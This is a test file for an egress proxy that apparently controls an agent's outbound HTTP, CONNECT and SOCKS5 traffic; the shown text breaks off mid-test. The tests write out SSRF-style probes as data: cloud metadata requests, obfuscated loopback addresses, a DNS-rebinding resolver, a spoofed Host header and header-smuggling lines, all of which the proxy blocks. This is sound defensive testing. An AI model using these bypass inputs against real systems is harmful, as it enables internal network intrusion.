import assert from "node:assert/strict";
import net from "node:net";
import { AgentPermsError } from "../errors.ts";
import {
  type EgressEvent,
  type EgressJudgement,
  type EgressProxy,
  type EgressTarget,
  startEgressProxy,
  type StartEgressProxyOptions,
} from "./egress_proxy.ts";

const WAIT_MS = 5000;
const enc = new TextEncoder();
const dec = new TextDecoder();

/** Rejects after `ms` unless `p` settles first; the timer never outlives the wait. */
async function within<T>(p: Promise<T>, what: string, ms = WAIT_MS): Promise<T> {
  let timer: ReturnType<typeof setTimeout> | undefined;
  try {
    return await Promise.race([
      p,
      new Promise<never>((_, fail) => (timer = setTimeout(() => fail(new Error(`timed out: ${what}`)), ms))),
    ]);
  } finally {
    clearTimeout(timer);
  }
}

/** A loopback destination: raw echo, or (http) one response echoing the request head as its body. */
async function startOrigin(kind: "echo" | "http") {
  const heads: string[] = [];
  let accepted = 0;
  const socks = new Set<net.Socket>();
  const server = net.createServer((s) => {
    accepted++;
    socks.add(s);
    s.on("close", () => socks.delete(s));
    s.on("error", () => {});
    if (kind === "echo") return void s.pipe(s);
    let got = "";
    s.on("data", (c) => {
      got += c.toString("latin1");
      const end = got.indexOf("\r\n\r\n");
      if (end < 0) return;
      const head = got.slice(0, end + 4);
      heads.push(head);
      s.end(`HTTP/1.1 200 OK\r\nContent-Length: ${head.length}\r\nConnection: close\r\n\r\n${head}`);
    });
  });
  await new Promise<void>((r) => server.listen(0, "127.0.0.1", () => r()));
  return {
    port: (server.address() as net.AddressInfo).port,
    heads,
    get accepted() {
      return accepted;
    },
    async close() {
      for (const s of socks) s.destroy();
      await new Promise<void>((r) => server.close(() => r()));
    },
  };
}

/** Collects events and lets a test wait for the n-th one. */
class Events {
  readonly list: EgressEvent[] = [];
  #wake: (() => void) | undefined;
  readonly push = (e: EgressEvent): void => {
    this.list.push(e);
    this.#wake?.();
  };
  async wait(n: number): Promise<EgressEvent[]> {
    await within(
      (async () => {
        while (this.list.length < n) await new Promise<void>((r) => (this.#wake = r));
      })(),
      `${n} event(s)`,
    );
    return this.list;
  }
}

const allowAll = (t: EgressTarget): EgressJudgement => ({
  allow: true,
  reason: `${t.host} is allowed`,
  ruleIds: ["net[0]"],
});
const METADATA_JUDGE = (t: EgressTarget): EgressJudgement =>
  t.addresses.some((a) => a.startsWith("169.254."))
    ? {
      allow: false,
      reason: "Link-local metadata addresses are never reachable",
      ruleIds: ["guard/metadata-ip"],
    }
    : allowAll(t);

interface Fixture {
  proxy: EgressProxy;
  port: number;
  events: Events;
  dir: string;
  targets: EgressTarget[];
}

/** Starts a proxy on 127.0.0.1 with a hosts file; closes it and removes the temp dir afterwards. */
async function withProxy(
  options: Partial<StartEgressProxyOptions> & { hosts?: string },
  fn: (f: Fixture) => Promise<void>,
): Promise<void> {
  const dir = await Deno.makeTempDir({ prefix: "ap-egress-" });
  const events = new Events();
  const targets: EgressTarget[] = [];
  const judge = options.judge ?? allowAll;
  let hostsFile = options.hostsFile;
  if (options.hosts !== undefined) {
    hostsFile = `${dir}/hosts`;
    await Deno.writeTextFile(hostsFile, options.hosts);
  }
  const proxy = await startEgressProxy({
    listen: { hostname: "127.0.0.1", port: 0 },
    ...options,
    hostsFile,
    judge: (t) => {
      targets.push(t);
      return judge(t);
    },
    onEvent: events.push,
  });
  try {
    await fn({ proxy, port: (proxy.address as { port: number }).port, events, dir, targets });
  } finally {
    await proxy.close();
    await Deno.remove(dir, { recursive: true });
  }
}

/** A raw client connection with deadline-bound reads. */
class Client {
  #buf = new Uint8Array(0);
  #eof = false;
  private constructor(readonly conn: Deno.Conn) {}
  static async open(addr: { port: number } | { path: string }): Promise<Client> {
    const conn = "path" in addr
      ? await Deno.connect({ transport: "unix", path: addr.path })
      : await Deno.connect({ hostname: "127.0.0.1", port: addr.port });
    return new Client(conn);
  }
  async send(data: string | Uint8Array): Promise<void> {
    const bytes = typeof data === "string" ? enc.encode(data) : data;
    let off = 0;
    while (off < bytes.length) off += await this.conn.write(bytes.subarray(off));
  }
  async #fill(): Promise<boolean> {
    const b = new Uint8Array(64 * 1024);
    const n = await this.conn.read(b);
    if (n === null) {
      this.#eof = true;
      return false;
    }
    const next = new Uint8Array(this.#buf.length + n);
    next.set(this.#buf);
    next.set(b.subarray(0, n), this.#buf.length);
    this.#buf = next;
    return true;
  }
  /** Reads exactly n bytes. */
  async bytes(n: number): Promise<Uint8Array> {
    await within(
      (async () => {
        while (this.#buf.length < n) {
          if (!await this.#fill()) throw new Error(`EOF after ${this.#buf.length} bytes`);
        }
      })(),
      `${n} bytes`,
    );
    const out = this.#buf.slice(0, n);
    this.#buf = this.#buf.slice(n);
    return out;
  }
  /** Reads up to and including the first CRLFCRLF. */
  async head(): Promise<string> {
    await within(
      (async () => {
        while (!dec.decode(this.#buf).includes("\r\n\r\n")) {
          if (!await this.#fill()) {
            throw new Error(`EOF before a head: ${JSON.stringify(dec.decode(this.#buf))}`);
          }
        }
      })(),
      "a response head",
    );
    const text = dec.decode(this.#buf);
    const end = text.indexOf("\r\n\r\n") + 4;
    this.#buf = enc.encode(text.slice(end));
    return text.slice(0, end);
  }
  /** Reads until the peer closes; returns everything unread. */
  async rest(): Promise<string> {
    await within(
      (async () => {
        while (!this.#eof) {
          try {
            await this.#fill();
          } catch {
            this.#eof = true; // a reset also ends the stream
          }
        }
      })(),
      "EOF",
    );
    const text = dec.decode(this.#buf);
    this.#buf = new Uint8Array(0);
    return text;
  }
  close(): void {
    try {
      this.conn.close();
    } catch { /* already closed */ }
  }
}

/** Sends a full request and returns the proxy's whole answer (it always closes after an error). */
async function exchange(port: number, request: string | Uint8Array): Promise<string> {
  const c = await Client.open({ port });
  try {
    await c.send(request);
    return await c.rest();
  } finally {
    c.close();
  }
}

function socksGreeting(): Uint8Array {
  return new Uint8Array([0x05, 0x01, 0x00]);
}
function socksDomain(host: string, port: number, cmd = 0x01): Uint8Array {
  const name = enc.encode(host);
  return new Uint8Array([0x05, cmd, 0x00, 0x03, name.length, ...name, port >> 8, port & 255]);
}
function socksIpv4(ip: string, port: number): Uint8Array {
  return new Uint8Array([0x05, 0x01, 0x00, 0x01, ...ip.split(".").map(Number), port >> 8, port & 255]);
}
function socksIpv6(groups: number[], port: number): Uint8Array {
  return new Uint8Array([
    0x05,
    0x01,
    0x00,
    0x04,
    ...groups.flatMap((g) => [g >> 8, g & 255]),
    port >> 8,
    port & 255,
  ]);
}
/** Runs a SOCKS5 handshake; returns the reply code and the open client. */
async function socks(port: number, request: Uint8Array): Promise<{ code: number; client: Client }> {
  const client = await Client.open({ port });
  await client.send(socksGreeting());
  assert.deepEqual([...await client.bytes(2)], [0x05, 0x00], "no-auth method chosen");
  await client.send(request);
  const reply = await client.bytes(10);
  assert.equal(reply[0], 0x05);
  return { code: reply[1]!, client };
}

Deno.test("startEgressProxy() opens an allowed CONNECT tunnel, forwards early bytes and reports bytes once it ends", async () => {
  const origin = await startOrigin("echo");
  try {
    await withProxy({}, async ({ port, events, targets }) => {
      const c = await Client.open({ port });
      await c.send(
        `CONNECT 127.0.0.1:${origin.port} HTTP/1.1\r\nHost: 127.0.0.1:${origin.port}\r\n\r\nearly`,
      );
      assert.equal(await c.head(), "HTTP/1.1 200 Connection Established\r\n\r\n");
      assert.equal(dec.decode(await c.bytes(5)), "early", "bytes sent with the CONNECT go through first");
      await c.send("ping!");
      assert.equal(dec.decode(await c.bytes(5)), "ping!");
      assert.equal(events.list.length, 0, "an open tunnel has not reported yet");
      c.close();
      const [e] = await events.wait(1);
      assert.deepEqual(targets, [{ host: "127.0.0.1", port: origin.port, addresses: ["127.0.0.1"] }]);
      assert.equal(e!.protocol, "connect");
      assert.equal(e!.allowed, true);
      assert.equal(e!.dialled, "127.0.0.1");
      assert.deepEqual(e!.ruleIds, ["net[0]"]);
      assert.equal(e!.bytesUp, 10);
      assert.equal(e!.bytesDown, 10);
      assert.equal(typeof e!.durationMs, "number");
      assert.equal(e!.error, undefined);
      assert.ok(!Number.isNaN(Date.parse(e!.time)));
    });
  } finally {
    await origin.close();
  }
});

Deno.test("startEgressProxy() refuses a CONNECT the judge refuses with 403 and the reason, without dialling", async () => {
  const origin = await startOrigin("echo");
  try {
    await withProxy({
      judge: () => ({ allow: false, reason: "Host is not on the allow list", ruleIds: ["net/default-deny"] }),
    }, async ({ port, events }) => {
      const answer = await exchange(port, `CONNECT 127.0.0.1:${origin.port} HTTP/1.1\r\n\r\n`);
      assert.match(answer, /^HTTP\/1\.1 403 Forbidden\r\n/);
      assert.ok(answer.endsWith("\r\n\r\nAgentPerms egress: Host is not on the allow list\n"), answer);
      const [e] = await events.wait(1);
      assert.deepEqual(
        { ...e, time: "" },
        {
          time: "",
          protocol: "connect",
          host: "127.0.0.1",
          port: origin.port,
          addresses: ["127.0.0.1"],
          allowed: false,
          reason: "Host is not on the allow list",
          ruleIds: ["net/default-deny"],
        },
      );
      assert.equal(origin.accepted, 0);
    });
  } finally {
    await origin.close();
  }
});

Deno.test("startEgressProxy() forwards a plain HTTP proxy request in origin form with Host from the URI and no proxy headers", async () => {
  const origin = await startOrigin("http");
  try {
    await withProxy({ hosts: "127.0.0.1 origin.test\n" }, async ({ port, events }) => {
      const answer = await exchange(
        port,
        `GET http://Origin.Test:${origin.port}/p/a?q=1 HTTP/1.1\r\nHost: evil.example\r\n` +
          "Proxy-Connection: keep-alive\r\nProxy-Authorization: Basic c2VjcmV0\r\nConnection: keep-alive, X-Hop\r\n" +
          "X-Hop: 1\r\nKeep-Alive: 5\r\nX-Kept: yes\r\n\r\n",
      );
      assert.match(answer, /^HTTP\/1\.1 200 OK\r\n/);
      const sent =
        `GET /p/a?q=1 HTTP/1.1\r\nHost: origin.test:${origin.port}\r\nX-Kept: yes\r\nConnection: close\r\n\r\n`;
      assert.deepEqual(origin.heads, [sent]);
      assert.ok(answer.endsWith(sent), "the response arrived");
      const [e] = await events.wait(1);
      assert.equal(e!.protocol, "http");
      assert.equal(e!.host, "origin.test");
      assert.deepEqual(e!.addresses, ["127.0.0.1"]);
      assert.equal(e!.bytesUp, sent.length);
      assert.equal(e!.bytesDown, answer.length);
    });
  } finally {
    await origin.close();
  }
});

Deno.test("startEgressProxy() refuses a plain HTTP request the judge refuses, and answers 400 to https:// and origin-form targets", async () => {
  const origin = await startOrigin("http");
  try {
    await withProxy(
      { judge: () => ({ allow: false, reason: "No", ruleIds: ["r"] }) },
      async ({ port, events }) => {
        const refused = await exchange(port, `GET http://127.0.0.1:${origin.port}/ HTTP/1.1\r\n\r\n`);
        assert.match(refused, /^HTTP\/1\.1 403 Forbidden\r\n[^]*\r\n\r\nAgentPerms egress: No\n$/);
        const https = await exchange(port, "GET https://127.0.0.1/ HTTP/1.1\r\n\r\n");
        assert.match(https, /^HTTP\/1\.1 400 Bad Request\r\n[^]*only http:\/\/ URLs are proxied/);
        const direct = await exchange(port, "GET /index.html HTTP/1.1\r\nHost: x\r\n\r\n");
        assert.match(direct, /^HTTP\/1\.1 400 Bad Request\r\n[^]*not a proxy request/);
        assert.equal((await events.wait(1)).length, 1, "only the judged attempt is an event");
        assert.equal(origin.accepted, 0);
      },
    );
  } finally {
    await origin.close();
  }
});

Deno.test("startEgressProxy() serves SOCKS5 by domain (resolved by the proxy), IPv4 and IPv4-mapped IPv6, and refuses with 0x02", async () => {
  const origin = await startOrigin("echo");
  try {
    await withProxy({
      hosts: "127.0.0.1 origin.test\n",
      judge: (t) =>
        t.host === "refused.test" || t.port === 1
          ? { allow: false, reason: "no", ruleIds: ["r"] }
          : { allow: true, reason: "ok", ruleIds: [] },
    }, async ({ port, events, targets }) => {
      for (const req of [socksDomain("origin.test", origin.port), socksIpv4("127.0.0.1", origin.port)]) {
        const { code, client } = await socks(port, req);
        assert.equal(code, 0x00);
        await client.send("hello");
        assert.equal(dec.decode(await client.bytes(5)), "hello");
        client.close();
      }
      const mapped = await socks(port, socksIpv6([0, 0, 0, 0, 0, 0xffff, 0x7f00, 0x0001], origin.port));
      assert.equal(mapped.code, 0x00);
      mapped.client.close();
      for (const req of [socksDomain("origin.test", 1), socksIpv4("127.0.0.1", 1)]) {
        const { code, client } = await socks(port, req);
        assert.equal(code, 0x02, "not allowed by ruleset");
        assert.equal(await client.rest(), "", "then the proxy closes");
        client.close();
      }
      await events.wait(5);
      assert.deepEqual(targets.map((t) => [t.host, t.addresses]), [
        ["origin.test", ["127.0.0.1"]],
        ["127.0.0.1", ["127.0.0.1"]],
        ["::ffff:7f00:1", ["127.0.0.1"]],
        ["origin.test", ["127.0.0.1"]],
        ["127.0.0.1", ["127.0.0.1"]],
      ]);
      assert.deepEqual(events.list.map((e) => [e.protocol, e.allowed]).sort(), [
        ["socks5", false],
        ["socks5", false],
        ["socks5", true],
        ["socks5", true],
        ["socks5", true],
      ]);
      assert.equal(origin.accepted, 3);
    });
  } finally {
    await origin.close();
  }
});

Deno.test("startEgressProxy() answers SOCKS5 without no-auth 0xFF and a non-CONNECT command 0x07", async () => {
  await withProxy({}, async ({ port, events }) => {
    const noAuth = await Client.open({ port });
    await noAuth.send(new Uint8Array([0x05, 0x01, 0x02]));
    assert.deepEqual([...await noAuth.bytes(2)], [0x05, 0xff]);
    assert.equal(await noAuth.rest(), "");
    noAuth.close();
    const bind = await socks(port, socksDomain("origin.test", 80, 0x02));
    assert.equal(bind.code, 0x07);
    bind.client.close();
    assert.equal(events.list.length, 0);
  });
});

Deno.test("startEgressProxy() lets the judge see a hosts-file name's metadata or loopback address and dials nothing when it refuses", async () => {
  const origin = await startOrigin("echo");
  try {
    await withProxy({
      hosts: "# split horizon\n169.254.169.254 metadata.test\n127.0.0.1 sneaky.test  # looks remote\n",
      judge: (t) =>
        t.addresses.some((a) => a.startsWith("169.254.") || a.startsWith("127."))
          ? { allow: false, reason: "Internal address", ruleIds: ["guard/internal-ip"] }
          : allowAll(t),
      resolve: () => Promise.reject(new Error("hosts-file names must not reach the resolver")),
    }, async ({ port, events, targets }) => {
      const meta = await exchange(port, "GET http://metadata.test/latest/meta-data/ HTTP/1.1\r\n\r\n");
      assert.match(meta, /^HTTP\/1\.1 403 Forbidden[^]*AgentPerms egress: Internal address\n$/);
      const loop = await exchange(port, `CONNECT sneaky.test:${origin.port} HTTP/1.1\r\n\r\n`);
      assert.match(loop, /^HTTP\/1\.1 403 Forbidden/);
      const s = await socks(port, socksDomain("metadata.test", 80));
      assert.equal(s.code, 0x02);
      s.client.close();
      await events.wait(3);
      assert.deepEqual(targets, [
        { host: "metadata.test", port: 80, addresses: ["169.254.169.254"] },
        { host: "sneaky.test", port: origin.port, addresses: ["127.0.0.1"] },
        { host: "metadata.test", port: 80, addresses: ["169.254.169.254"] },
      ]);
      assert.ok(events.list.every((e) => e.dialled === undefined && !e.allowed));
      assert.deepEqual(events.list[0]!.ruleIds, ["guard/internal-ip"]);
      assert.equal(origin.accepted, 0, "nothing was dialled");
    });
  } finally {
    await origin.close();
  }
});

Deno.test("startEgressProxy() resolves once per attempt and dials exactly the address the judge chose", async () => {
  const origin = await startOrigin("echo");
  try {
    const calls: string[] = [];
    let answer = ["169.254.169.254", "127.0.0.1"];
    await withProxy({
      resolve: (host) => {
        calls.push(host);
        const now = answer;
        answer = ["10.255.255.1"]; // a rebinding resolver: the next answer differs
        return Promise.resolve(now);
      },
      judge: (t) =>
        t.host === "wrong.test" ? { allow: true, reason: "ok", ruleIds: [], address: "192.0.2.1" } : {
          allow: true,
          reason: "ok",
          ruleIds: [],
          address: t.addresses.find((a) => a.startsWith("127.")),
        },
    }, async ({ port, events }) => {
      const c = await Client.open({ port });
      await c.send(`CONNECT multi.test:${origin.port} HTTP/1.1\r\n\r\n`);
      assert.match(await c.head(), /^HTTP\/1\.1 200 /);
      await c.send("x");
      assert.equal(dec.decode(await c.bytes(1)), "x");
      c.close();
      const [e] = await events.wait(1);
      assert.deepEqual(calls, ["multi.test"], "resolved once, never again before dialling");
      assert.deepEqual(e!.addresses, ["169.254.169.254", "127.0.0.1"]);
      assert.equal(e!.dialled, "127.0.0.1");
      const wrong = await exchange(port, `CONNECT wrong.test:${origin.port} HTTP/1.1\r\n\r\n`);
      assert.match(
        wrong,
        /^HTTP\/1\.1 403 [^]*the judge chose "192\.0\.2\.1", which "wrong\.test" did not resolve to/,
      );
      assert.equal(origin.accepted, 1);
    });
  } finally {
    await origin.close();
  }
});

Deno.test("startEgressProxy() refuses a name that resolves to nothing or fails, and numeric host forms, before judging", async () => {
  await withProxy({
    resolve: (host) => host === "boom.test" ? Promise.reject(new Error("ENOTFOUND")) : Promise.resolve([]),
  }, async ({ port, events, targets }) => {
    const empty = await exchange(port, "CONNECT nowhere.test:443 HTTP/1.1\r\n\r\n");
    assert.match(empty, /^HTTP\/1\.1 403 Forbidden[^]*AgentPerms egress: cannot resolve\n$/);
    const boom = await exchange(port, "GET http://boom.test/ HTTP/1.1\r\n\r\n");
    assert.match(boom, /AgentPerms egress: cannot resolve\n$/);
    const s = await socks(port, socksDomain("nowhere.test", 443));
    assert.equal(s.code, 0x04, "host unreachable");
    s.client.close();
    for (const numeric of ["2130706433", "127.1", "0x7f.0.0.1", "fe80::1%25eth0"]) {
      const a = await exchange(port, `CONNECT ${numeric}:443 HTTP/1.1\r\n\r\n`);
      assert.match(a, /^HTTP\/1\.1 400 Bad Request/, numeric);
    }
    await events.wait(6);
    assert.deepEqual(targets, [], "the judge never saw an unresolved or ambiguous host");
    assert.deepEqual(events.list.slice(0, 3).map((e) => [e.host, e.reason, e.addresses]), [
      ["nowhere.test", "cannot resolve", []],
      ["boom.test", "cannot resolve", []],
      ["nowhere.test", "cannot resolve", []],
    ]);
    assert.deepEqual(events.list.slice(3).map((e) => [e.host, e.reason]), [
      ["2130706433", "invalid host name"],
      ["127.1", "invalid host name"],
      ["0x7f.0.0.1", "invalid host name"],
    ]);
  });
});

Deno.test("startEgressProxy() judges normalized hosts: case, trailing dot, IPv6 forms, IPv4-mapped metadata address", async () => {
  await withProxy(
    { hosts: "127.0.0.2 example.test\n", judge: METADATA_JUDGE },
    async ({ port, events, targets }) => {
      for (const authority of ["Example.TEST.:1", "[0:0:0:0:0:0:0:1]:1", "[::FFFF:169.254.169.254]:80"]) {
        await exchange(port, `CONNECT ${authority} HTTP/1.1\r\n\r\n`);
      }
      await events.wait(3);
      assert.deepEqual(targets, [
        { host: "example.test", port: 1, addresses: ["127.0.0.2"] },
        { host: "::1", port: 1, addresses: ["::1"] },
        { host: "::ffff:a9fe:a9fe", port: 80, addresses: ["169.254.169.254"] },
      ]);
      assert.deepEqual(events.list[2]!.ruleIds, ["guard/metadata-ip"], "the mapped form does not slip past");
    },
  );
});

Deno.test("startEgressProxy() answers garbage with 400 and keeps serving", async () => {
  const origin = await startOrigin("echo");
  try {
    await withProxy({}, async ({ port, events }) => {
      const tls = await exchange(port, new Uint8Array([0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00]));
      assert.match(tls, /^HTTP\/1\.1 400 Bad Request/);
      const line = await exchange(port, "HELLO there\r\n");
      assert.match(line, /^HTTP\/1\.1 400 Bad Request[^]*malformed request line/);
      const smuggle = await exchange(port, "CONNECT 127.0.0.1:1 HTTP/1.1\r\nX: a\nb: c\r\n\r\n");
      assert.match(smuggle, /^HTTP\/1\.1 400 Bad Request[^]*malformed header line/);
      const fold = await exchange(port, "CONNECT 127.0.0.1:1 HTTP/1.1\r\nX: a\r\n folded\r\n\r\n");
      assert.match(fold, /^HTTP\/1\.1 400 Bad Request/);
      const socksVersion = await exchange(
        port,
        new Uint8Array([0x05, 0x01, 0x00, 0x04, 0x01, 0x00, 0x01, 0x7f]),
      );
      assert.equal(socksVersion, "\x05\x00", "a SOCKS request with the wrong version is closed");
      const socksAtyp = await exchange(
        port,
        new Uint8Array([0x05, 0x01, 0x00, 0x05, 0x01, 0x00, 0x09, 0x7f]),
      );
      assert.equal(
        socksAtyp,
        "\x05\x00\x05\x08\x00\x01\x00\x00\x00\x00\x00\x00",
        "address type not supported",
      );
      const half = await Client.open({ port });
      await half.send("CONN");
      await half.conn.closeWrite();
      assert.equal(await half.rest(), "", "a client that leaves mid-head is closed");
      half.close();
      const c = await Client.open({ port });
      await c.send(`CONNECT 127.0.0.1:${origin.port} HTTP/1.1\r\n\r\n`);
      assert.match(await c.head(), /^HTTP\/1\.1 200 /, "still serving");
      c.close();
      await events.wait(1);
      assert.equal(events.list.length, 1);
    });
  } finally {
    await origin.close();
  }
});

Deno.test("startEgressProxy() refuses a header section over 16 KiB and a head that does not arrive in time", async () => {
  const origin = await startOrigin("http");
  try {
    await withProxy({ limits: { timeoutMs: 300 } }, async ({ port, events }) => {
      const big = `GET http://127.0.0.1:${origin.port}/ HTTP/1.1\r\nX-Big: ${"a".repeat(17 * 1024)}\r\n\r\n`;
      assert.match(await exchange(port, big), /^HTTP\/1\.1 400 Bad Request[^]*larger than 16384 bytes/);
      const endless = await Client.open({ port });
      await endless.send(`GET http://127.0.0.1:${origin.port}/ HTTP/1.1\r\nX-Big: ${"a".repeat(20 * 1024)}`);
      assert.match(
        await endless.rest(),
        /^HTTP\/1\.1 400 Bad Request[^]*larger than 16384 bytes/,
        "no wait for the rest",
      );
      endless.close();
      const justUnder = `GET http://127.0.0.1:${origin.port}/ HTTP/1.1\r\nX-Big: ${
        "a".repeat(15 * 1024)
      }\r\n\r\n`;
      assert.match(await exchange(port, justUnder), /^HTTP\/1\.1 200 OK/);
      const slow = await Client.open({ port });
      await slow.send("CONNECT 127.0.0.1:1 HTTP/1.1\r\n");
      assert.match(await slow.rest(), /^HTTP\/1\.1 400 Bad Request[^]*not received within 300 ms/);
      slow.close();
      const silentSocks = await Client.open({ port });
      await silentSocks.send(new Uint8Array([0x05]));
      assert.equal(await silentSocks.rest(), "", "a stalled SOCKS5 handshake is closed");
      silentSocks.close();
      await events.wait(1);
      assert.equal(origin.accepted, 1);
    });
  } finally {
    await origin.close();
  }
});

Deno.test("startEgressProxy() answers 503 beyond the connection limit", async () => {
  await withProxy({ limits: { maxConnections: 2 } }, async ({ port }) => {
    const held = [await Client.open({ port }), await Client.open({ port })];
    await held[0]!.send("CONNECT 127.0.0.1:1 HTTP/1.1\r\n");
    await held[1]!.send("CONNECT 127.0.0.1:1 HTTP/1.1\r\n");
    const third = await exchange(port, "CONNECT 127.0.0.1:1 HTTP/1.1\r\n\r\n");
    assert.match(third, /^HTTP\/1\.1 503 Service Unavailable[^]*too many connections/);
    for (const c of held) c.close();
  });
});

Deno.test("startEgressProxy() reports a failed dial once with its error and answers 502 or SOCKS5 0x05", async () => {
  const closed = await startOrigin("echo");
  const deadPort = closed.port;
  await closed.close();
  await withProxy({}, async ({ port, events }) => {
    const a = await exchange(port, `CONNECT 127.0.0.1:${deadPort} HTTP/1.1\r\n\r\n`);
    assert.match(a, /^HTTP\/1\.1 502 Bad Gateway[^]*cannot connect to 127\.0\.0\.1:\d+/);
    const s = await socks(port, socksIpv4("127.0.0.1", deadPort));
    assert.equal(s.code, 0x05);
    s.client.close();
    await events.wait(2);
    for (const e of events.list) {
      assert.equal(e.allowed, true);
      assert.equal(e.dialled, "127.0.0.1");
      assert.match(e.error ?? "", /ECONNREFUSED|refused/i);
    }
  });
});

Deno.test("startEgressProxy() refuses when the judge throws or returns garbage", async () => {
  await withProxy({
    judge: (t) => {
      if (t.port === 1) throw new Error("bad rule");
      return null as unknown as EgressJudgement;
    },
  }, async ({ port, events }) => {
    assert.match(
      await exchange(port, "CONNECT 127.0.0.1:1 HTTP/1.1\r\n\r\n"),
      /^HTTP\/1\.1 403 [^]*the judge failed: bad rule/,
    );
    assert.match(await exchange(port, "CONNECT 127.0.0.1:2 HTTP/1.1\r\n\r\n"), /^HTTP\/1\.1 403 /);
    await events.wait(2);
    assert.ok(events.list.every((e) => !e.allowed && e.dialled === undefined));
  });
});

Deno.test("startEgressProxy() on a Unix socket: mode 0600, stale socket replaced, live socket or file refused, removed on close", async () => {
  const origin = await startOrigin("echo");
  const dir = await Deno.makeTempDir({ dir: "/tmp", prefix: "ap-egress-" });
  try {
    const path = `${dir}/s.sock`;
    // A stale socket: bound elsewhere, moved into place, its listener gone (Deno.listen would unlink it).
    const stale = net.createServer();
    await new Promise<void>((r) => stale.listen(`${dir}/old`, () => r()));
    await Deno.rename(`${dir}/old`, path);
    await new Promise<void>((r) => stale.close(() => r()));
    assert.ok((await Deno.lstat(path)).isSocket);

    const events = new Events();
    const proxy = await startEgressProxy({ listen: { path }, judge: allowAll, onEvent: events.push });
    try {
      assert.deepEqual(proxy.address, { path });
      assert.equal((await Deno.lstat(path)).mode! & 0o777, 0o600);
      assert.deepEqual([...Deno.readDirSync(dir)].map((e) => e.name), ["s.sock"], "no temp dir left");
      await assert.rejects(
        startEgressProxy({ listen: { path }, judge: allowAll }),
        (e) => e instanceof AgentPermsError && e.code === "io_failed" && /in use/.test(e.message),
      );
      const c = await Client.open({ path });
      await c.send(`CONNECT 127.0.0.1:${origin.port} HTTP/1.1\r\n\r\n`);
      assert.match(await c.head(), /^HTTP\/1\.1 200 /);
      await c.send("unix");
      assert.equal(dec.decode(await c.bytes(4)), "unix");
      c.close();
      await events.wait(1);
    } finally {
      await proxy.close();
    }
    await assert.rejects(Deno.lstat(path), Deno.errors.NotFound, "close() removes the socket");

    await Deno.writeTextFile(path, "not a socket");
    await assert.rejects(
      startEgressProxy({ listen: { path }, judge: allowAll }),
      (e) => e instanceof AgentPermsError && /the path exists/.test(e.message),
    );
    assert.equal(await Deno.readTextFile(path), "not a socket", "an existing file is left alone");
    await assert.rejects(
      startEgressProxy({ listen: { path: `${dir}/${"x".repeat(120)}` }, judge: allowAll }),
      /too long/,
    );
  } finally {
    await origin.close();
    await Deno.remove(dir, { recursive: true });
  }
});

Deno.test("startEgressProxy() close() ends open tunnels and reports them before it resolves", async () => {
  const origin = await startOrigin("echo");
  try {
    const events = new Events();
    const proxy = await startEgressProxy({
      listen: { hostname: "127.0.0.1", port: 0 },
      judge: allowAll,
      onEvent: events.push,
    });
    const port = (proxy.address as { port: number }).port;
    const tunnels: Client[] = [];
    for (let i = 0; i < 3; i++) {
      const c = await Client.open({ port });
      await c.send(`CONNECT 127.0.0.1:${origin.port} HTTP/1.1\r\n\r\n`);
      assert.match(await c.head(), /^HTTP\/1\.1 200 /);
      await c.send("abc");
      assert.equal(dec.decode(await c.bytes(3)), "abc");
      tunnels.push(c);
    }
    const idle = await Client.open({ port });
    await idle.send("CONNECT 127.0.0.1:1");
    await within(proxy.close(), "close()");
    assert.equal(events.list.length, 3);
    assert.ok(events.list.every((e) => e.allowed && e.bytesUp === 3 && e.bytesDown === 3));
    for (const c of [...tunnels, idle]) {
      assert.equal(await c.rest(), "", "the proxy closed the connection");
      c.close();
    }
    await within(proxy.close(), "a second close()");
    await assert.rejects(Deno.connect({ hostname: "127.0.0.1", port }), "the listener is gone");
  } finally {
    await origin.close();
  }
});

// ---- real clients ----

const hasCommand = (cmd: string): boolean => {
  try {
    return new Deno.Command(cmd, { args: ["--version"], stdout: "null", stderr: "null" }).outputSync()
      .success;
  } catch {
    return false;
  }
};
const HAS_CURL = hasCommand("curl");
const HAS_PYTHON = hasCommand("python3");

/** Runs a client with its own HOME, no proxy variables but the given ones, and `no_proxy` empty. */
async function runClient(cmd: string, args: string[], home: string, env: Record<string, string> = {}) {
  const clean: Record<string, string> = { PATH: Deno.env.get("PATH") ?? "/usr/bin:/bin", HOME: home };
  const pyenv = Deno.env.get("PYENV_ROOT") ?? `${Deno.env.get("HOME")}/.pyenv`;
  clean.PYENV_ROOT = pyenv; // pyenv shims find their interpreter through it, not through HOME
  const out = await within(
    new Deno.Command(cmd, { args, env: { ...clean, no_proxy: "", NO_PROXY: "", ...env }, clearEnv: true })
      .output(),
    `${cmd} to finish`,
    20_000,
  );
  return { code: out.code, stdout: dec.decode(out.stdout), stderr: dec.decode(out.stderr) };
}

Deno.test({
  name: "startEgressProxy() serves curl: plain HTTP, CONNECT (--proxytunnel), socks5h, and a refusal",
  ignore: !HAS_CURL,
  fn: async () => {
    const origin = await startOrigin("http");
    try {
      await withProxy({
        hosts: "127.0.0.1 origin.test\n169.254.169.254 metadata.test\n",
        judge: METADATA_JUDGE,
      }, async (
        { port, events, dir },
      ) => {
        const url = `http://origin.test:${origin.port}/curl?x=1`;
        const base = ["-q", "-sS", "--max-time", "10"];
        const plain = await runClient("curl", [...base, "--proxy", `http://127.0.0.1:${port}`, url], dir);
        assert.equal(plain.code, 0, plain.stderr);
        assert.match(plain.stdout, /^GET \/curl\?x=1 HTTP\/1\.1\r\nHost: origin\.test:\d+\r\n/);
        const tunnel = await runClient(
          "curl",
          [...base, "--proxy", `http://127.0.0.1:${port}`, "-p", url],
          dir,
        );
        assert.equal(tunnel.code, 0, tunnel.stderr);
        assert.match(tunnel.stdout, /^GET \/curl\?x=1 HTTP\/1\.1\r\n/);
        const viaSocks = await runClient(
          "curl",
          [...base, "--proxy", `socks5h://127.0.0.1:${port}`, url],
          dir,
        );
        assert.equal(viaSocks.code, 0, viaSocks.stderr);
        assert.match(viaSocks.stdout, /^GET \/curl/);
        const refused = await runClient(
          "curl",
          [...base, "-i", "--proxy", `http://127.0.0.1:${port}`, "http://metadata.test/latest/"],
          dir,
        );
        assert.match(refused.stdout, /^HTTP\/1\.1 403 Forbidden[^]*AgentPerms egress: Link-local metadata/);
        await events.wait(4);
        assert.deepEqual(events.list.map((e) => [e.protocol, e.host, e.allowed]), [
          ["http", "origin.test", true],
          ["connect", "origin.test", true],
          ["socks5", "origin.test", true],
          ["http", "metadata.test", false],
        ]);
        assert.equal(origin.accepted, 3);
      });
    } finally {
      await origin.close();
    }
  },
});

Deno.test({
  name: "startEgressProxy() serves Python urllib through http_proxy, and refuses with 403 it can read",
  ignore: !HAS_PYTHON,
